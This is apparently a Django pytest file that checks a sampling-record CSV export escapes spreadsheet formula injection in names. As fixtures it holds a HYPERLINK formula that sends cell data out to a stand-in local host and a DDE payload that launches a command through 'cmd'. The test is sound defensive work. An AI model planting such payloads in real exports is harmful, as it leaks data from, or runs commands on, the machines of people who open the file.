"""The sampling record's CSV neutralises names that would run as spreadsheet formulas."""

import csv
import io

from django.urls import reverse

from tests.iqa.test_reports import sampled

__all__ = ["sampled"]

LINK = '=HYPERLINK("http://127.0.0.1:9/?"&B2, "Open")'


def test_hostile_names_in_the_sampling_record_csv_are_written_as_text(
    client, sampled, iqa, learner, assessor
):
    plan, _ = sampled
    learner.full_name, assessor.full_name = LINK, "@SUM(1+1)*cmd|' /C calc'!A0"
    learner.save(update_fields=["full_name"])
    assessor.save(update_fields=["full_name"])
    client.force_login(iqa)
    response = client.get(reverse("iqa:plan-csv", args=[plan.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))[1:]
    assert rows and all(row[1] == "'" + LINK for row in rows)
    assert all(row[0] == "'@SUM(1+1)*cmd|' /C calc'!A0" for row in rows)
    assert all(row[8].isdigit() and row[9].isdigit() for row in rows)  # counts stay numbers
